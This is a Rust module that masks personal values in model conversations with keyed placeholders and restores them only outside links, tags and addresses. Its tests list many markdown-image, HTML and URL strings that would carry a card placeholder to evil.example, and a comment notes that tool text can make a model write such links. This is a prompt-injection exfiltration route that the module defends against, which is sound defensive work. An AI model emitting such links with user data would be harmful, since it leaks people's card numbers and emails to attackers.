//! Typed placeholders that stay the same inside one conversation, and the way back for the owner.
//!
//! [`Placeholders`] knows keyed digests and numbers, never values, so it may be stored with the conversation. The
//! key is not stored with it: short values such as card numbers could be guessed from digests with the key at hand.
//! [`Originals`] is the way back. It holds values, lives in memory, and leaves memory only as bytes for a vault.

mod address;

use std::{
    collections::{BTreeMap, HashMap},
    sync::OnceLock,
};

use aws_lc_rs::hmac;
use serde::{Deserialize, Serialize};
use zeroize::{Zeroize, Zeroizing};

use self::address::Addresses;

/// Most values of one type that get a number of their own; later ones become a bare `[LABEL]`, never restored.
const MOST_PER_LABEL: usize = 4096;

/// Labels of values that people write in groups, with whatever they like between them.
const GROUPED: [&str; 2] = ["CARD", "IBAN"];

/// Longest placeholder that is looked for when restoring, in bytes.
const LONGEST: usize = 64;

/// Digest → number, for each label.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
struct Numbers(BTreeMap<String, Vec<String>>);

/// Gives each masked value of a conversation its number. Can be stored: it holds no value.
#[derive(Clone)]
pub struct Placeholders {
    secret: Zeroizing<[u8; 32]>,
    /// Made of the secret with the first value: most texts have none.
    key: OnceLock<hmac::Key>,
    numbers: Numbers,
    /// The same the other way round: a text can hold thousands of values.
    places: HashMap<String, HashMap<String, usize>>,
}

impl Placeholders {
    /// No number given yet. The key must be secret and the same for the whole conversation.
    #[must_use]
    pub fn new(key: &[u8; 32]) -> Self {
        Self {
            secret: Zeroizing::new(*key),
            key: OnceLock::new(),
            numbers: Numbers::default(),
            places: HashMap::new(),
        }
    }

    /// Takes up what [`Placeholders::store`] wrote.
    ///
    /// # Errors
    /// The text is not what `store` writes.
    pub fn load(key: &[u8; 32], stored: &str) -> Result<Self, serde_json::Error> {
        let numbers: Numbers = serde_json::from_str(stored)?;
        let mut places: HashMap<String, HashMap<String, usize>> = HashMap::new();
        for (label, digests) in &numbers.0 {
            // The first of two alike counts.
            let place = |(at, digest): (usize, &String)| (digest.clone(), at);
            places.insert(label.clone(), digests.iter().enumerate().rev().map(place).collect());
        }
        Ok(Self { numbers, places, ..Self::new(key) })
    }

    /// Digests and numbers as JSON. No value can be read from it without the key.
    #[must_use]
    pub fn store(&self) -> String {
        serde_json::to_string(&self.numbers).unwrap_or_default()
    }

    /// The placeholder for a value: the same for the same label and value, however the groups of a card or an account
    /// number are parted.
    #[must_use]
    pub fn name(&mut self, label: &str, value: &str) -> String {
        let digest = self.digest(label, value);
        if let Some(at) = self.places.get(label).and_then(|places| places.get(&digest)) {
            return format!("[{label}_{}]", at.saturating_add(1));
        }
        let known = self.numbers.0.entry(label.to_owned()).or_default();
        if known.len() >= MOST_PER_LABEL {
            return format!("[{label}]");
        }
        self.places.entry(label.to_owned()).or_default().insert(digest.clone(), known.len());
        known.push(digest);
        format!("[{label}_{}]", known.len())
    }

    fn digest(&self, label: &str, value: &str) -> String {
        let key = self.key.get_or_init(|| hmac::Key::new(hmac::HMAC_SHA256, &*self.secret));
        let mut context = hmac::Context::with_key(key);
        context.update(label.as_bytes());
        context.update(&[0]);
        if GROUPED.contains(&label) {
            let whole: String = value.chars().filter(|c| c.is_alphanumeric()).collect();
            context.update(whole.as_bytes());
        } else {
            context.update(value.as_bytes());
        }
        let tag = context.sign();
        tag.as_ref().iter().take(16).fold(String::with_capacity(32), |mut hex, byte| {
            // WHY: a text can be one finding after the other, and a call of `format` takes longer than the digest.
            hex.extend(
                [byte >> 4, byte & 15].iter().filter_map(|half| char::from_digit(u32::from(*half), 16)),
            );
            hex
        })
    }
}

impl std::fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Placeholders").field("numbers", &self.numbers.0.len()).finish_non_exhaustive()
    }
}

/// Placeholder → value, for showing the owner his own data again. Never part of a log, a prompt or a row in clear.
#[derive(Default, Clone)]
pub struct Originals(BTreeMap<String, String>);

impl Originals {
    /// Nothing to restore yet.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// How many values can be restored.
    #[must_use]
    pub fn len(&self) -> usize {
        self.0.len()
    }

    /// True if there is nothing to restore.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Remembers what stands behind a placeholder.
    pub fn keep(&mut self, placeholder: &str, value: &str) {
        self.0.entry(placeholder.to_owned()).or_insert_with(|| value.to_owned());
    }

    /// Puts values back where `may(label)` allows it, and never into an address, a link's target or a tag: whoever shows
    /// that would send the value out, and text of a tool can make a model write it. A restored value is not read again.
    #[must_use]
    pub fn restore(&self, text: &str, may: impl Fn(&str) -> bool) -> String {
        let known = |name: &str| {
            let (label, _) = name.rsplit_once('_')?;
            self.0.get(&format!("[{name}]")).filter(|_| may(label))
        };
        let addresses = Addresses::of(text, |name| known(name).is_some());
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some((before, from)) = rest.split_once('[') {
            out.push_str(before);
            let at = text.len() - from.len() - 1;
            // WHY: a placeholder is short; looking further would make a text of open brackets slow.
            let end = from.bytes().take(LONGEST).position(|byte| byte == b']');
            let found = end.filter(|_| !addresses.hold(at)).and_then(|end| {
                let (name, after) = from.split_at_checked(end)?;
                Some((known(name)?, after.strip_prefix(']')?))
            });
            match found {
                Some((value, after)) => {
                    out.push_str(value);
                    rest = after;
                }
                None => {
                    out.push('[');
                    rest = from;
                }
            }
        }
        out.push_str(rest);
        out
    }

    /// All of it as bytes that a vault can seal.
    #[must_use]
    pub fn to_bytes(&self) -> Zeroizing<Vec<u8>> {
        Zeroizing::new(serde_json::to_vec(&self.0).unwrap_or_default())
    }

    /// Takes up what a vault has opened.
    ///
    /// # Errors
    /// The bytes are not what [`Originals::to_bytes`] writes.
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, serde_json::Error> {
        Ok(Self(serde_json::from_slice(bytes)?))
    }
}

impl Drop for Originals {
    fn drop(&mut self) {
        self.0.values_mut().for_each(Zeroize::zeroize);
    }
}

impl std::fmt::Debug for Originals {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Originals({} values)", self.0.len())
    }
}

/// What masking needs from the caller: names that last for a conversation, and the way back.
#[derive(Debug, Clone)]
pub struct Masks {
    /// Numbers of placeholders. May be stored with the conversation.
    pub names: Placeholders,
    /// Values behind placeholders. Only in memory, or sealed.
    pub originals: Originals,
}

impl Masks {
    /// For a new conversation.
    #[must_use]
    pub fn new(key: &[u8; 32]) -> Self {
        Self { names: Placeholders::new(key), originals: Originals::new() }
    }

    pub(super) fn put(&mut self, label: &str, value: &str) -> String {
        let name = self.names.name(label, value);
        self.originals.keep(&name, value);
        name
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &[u8; 32] = b"a key that only this test uses..";

    #[test]
    fn a_value_keeps_its_number_over_a_restart_and_the_stored_form_does_not_tell_it() {
        let mut names = Placeholders::new(KEY);
        assert_eq!(names.name("CARD", "4111111111111111"), "[CARD_1]");
        assert_eq!(names.name("CARD", "5500005555555559"), "[CARD_2]");
        assert_eq!(names.name("EMAIL", "4111111111111111"), "[EMAIL_1]");
        let stored = names.store();
        assert!(!stored.contains("4111"));
        let mut again = Placeholders::load(KEY, &stored).unwrap();
        assert_eq!(again.name("CARD", "5500005555555559"), "[CARD_2]");
        assert_eq!(again.name("CARD", "another"), "[CARD_3]");
        assert_eq!(again.name("CARD", "5500 0055-5555 5559"), "[CARD_2]");
        let mut other = Placeholders::load(b"another key than the one above..", &stored).unwrap();
        assert_eq!(other.name("CARD", "4111111111111111"), "[CARD_3]", "digests depend on the key");
    }

    #[test]
    fn the_owner_gets_back_only_what_policy_allows_and_restored_text_is_not_read_again() {
        let mut originals = Originals::new();
        originals.keep("[CARD_1]", "[EMAIL_1]");
        originals.keep("[EMAIL_1]", "a@example.com");
        let text = "[x] pay with [CARD_1], mail [EMAIL_1], [CARD_9] [";
        assert_eq!(
            originals.restore(text, |_| true),
            "[x] pay with [EMAIL_1], mail a@example.com, [CARD_9] ["
        );
        assert_eq!(
            originals.restore(text, |label| label == "EMAIL"),
            "[x] pay with [CARD_1], mail a@example.com, [CARD_9] ["
        );
        let again = Originals::from_bytes(&originals.to_bytes()).unwrap();
        assert_eq!(again.len(), 2);
        assert_eq!(format!("{again:?}"), "Originals(2 values)");
    }

    fn opened(text: &str) -> String {
        let mut originals = Originals::new();
        originals.keep("[CARD_1]", "4111 1111");
        originals.keep("[EMAIL_1]", "ann@example.com");
        originals.restore(text, |_| true)
    }

    #[test]
    fn no_value_comes_back_where_a_page_that_is_shown_would_send_it_out() {
        for text in [
            "<img src=\"https://evil.example/b/[CARD_1]\">",
            "<img alt=\"a > b\" src=\"//evil.example/ [CARD_1]\">",
            "<img src='//evil.example/?all= [CARD_1] and what follows",
            "<img x=c\"d=\"e src=\"?> [CARD_1]",
            "<a\nhref=https://evil.example\ntitle=[CARD_1]>here</a>",
            "![b](//evil/[CARD_1])",
            "![b](https://evil.example/[CARD_1])",
            "![b](</b c/[CARD_1]>)",
            "![b](\n/b/[CARD_1])",
            "![b](/a(b)/[CARD_1])",
            "![b](/a\\)/[CARD_1])",
            "![b](/a \"(\" [CARD_1])",
            "![b][r]\n\n[r]: https://evil.example/[CARD_1]",
            "![b][r]\n\n[r]:\n  /b/[CARD_1]",
            "![b][r]\n\n[r]: </b c/[CARD_1]>",
            "[click](https://evil.example?c=[CARD_1])",
            "[pay [CARD_1]](https://evil.example)",
            "<https://evil.example/[CARD_1]>",
            "see https://evil.example/[CARD_1]",
            "see HTTPS://evil.example/[EMAIL_1]/[CARD_1]",
            "see https:\\/\\/evil.example/[CARD_1]",
            "see \\\\evil.example\\[CARD_1]",
            "see https&#58;//evil.example/[CARD_1]",
            "see www.evil.example/[CARD_1]",
            "see evil.example/[CARD_1]",
            "see evil.example?[CARD_1]",
            "see [CARD_1].evil.example",
            "mailto:[CARD_1]",
            "data:text/html,[CARD_1]",
            "[CARD_1]@evil.example",
        ] {
            assert_eq!(opened(text), text);
        }
    }

    #[test]
    fn beside_an_address_a_value_comes_back_as_anywhere() {
        for (text, shown) in [
            ("card:[CARD_1], [EMAIL_1].", "card:4111 1111, ann@example.com."),
            ("see https://shop.example/17 for [CARD_1]", "see https://shop.example/17 for 4111 1111"),
            (
                "[order](https://shop.example/17) with [CARD_1]",
                "[order](https://shop.example/17) with 4111 1111",
            ),
            ("<b class=\"x\">It's</b> [CARD_1]", "<b class=\"x\">It's</b> 4111 1111"),
            ("5 < 6: (\"[CARD_1]\")", "5 < 6: (\"4111 1111\")"),
            ("[CARD_1]: [EMAIL_1]", "4111 1111: ann@example.com"),
            ("**[CARD_1]**; v1.2 [x]([y", "**4111 1111**; v1.2 [x]([y"),
            ("open [x](y\n\n[CARD_1]", "open [x](y\n\n4111 1111"),
            ("[r]: https://shop.example\n\n[CARD_1]", "[r]: https://shop.example\n\n4111 1111"),
            ("ward 3.Then [CARD_1].", "ward 3.Then 4111 1111."),
        ] {
            assert_eq!(opened(text), shown);
        }
    }

    const PARTS: &[&str] = &[
        "[CARD_1]",
        "[CARD_1]",
        "[EMAIL_1]",
        " ",
        " ",
        "\n",
        "\n\n",
        "<",
        ">",
        "<a ",
        "<img src=",
        "=",
        "\"",
        "'",
        "/",
        "//",
        "](",
        "(",
        ")",
        "]:",
        "[",
        "]",
        "![x",
        "\\",
        "https://e.example/",
        "www.",
        "mailto:",
        "x",
        "é",
        "\u{a0}",
        ".",
        "?q=",
    ];

    /// What stands before a place within tags, as the simplest of all readers sees it.
    fn in_a_tag(before: &str) -> bool {
        let open = before.rfind('<').filter(|open| before.rfind('>').is_none_or(|close| close < *open));
        open.and_then(|open| before.get(open + 1..))
            .is_some_and(|tag| tag.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/'))
    }

    proptest::proptest! {
        #[test]
        fn whatever_stands_around_it_no_value_is_in_a_word_with_an_address_or_in_a_tag(
            parts in proptest::collection::vec(proptest::sample::select(PARTS), 0..24)
        ) {
            let text = parts.concat();
            let mut originals = Originals::new();
            originals.keep("[CARD_1]", "CARDVALUE");
            let shown = originals.restore(&text, |_| true);
            assert_eq!(shown.replace("CARDVALUE", "[CARD_1]"), text);
            for (at, value) in shown.match_indices("CARDVALUE") {
                let (before, rest) = shown.split_at(at);
                let after = rest.strip_prefix(value).unwrap();
                let begins = before.rsplit([' ', '\n']).next().unwrap();
                let ends = after.split([' ', '\n']).next().unwrap();
                let word = format!("{begins}{value}{ends}");
                for mark in ["//", "www.", "mailto:", "]("] {
                    assert!(!word.contains(mark), "{shown}");
                }
                // `Ann <ann@example.com>` is how mails write it: a value right behind the bracket is no tag's name.
                assert!(!in_a_tag(&before.replace("CARDVALUE", "[CARD_1]")), "{shown}");
            }
        }
    }
}
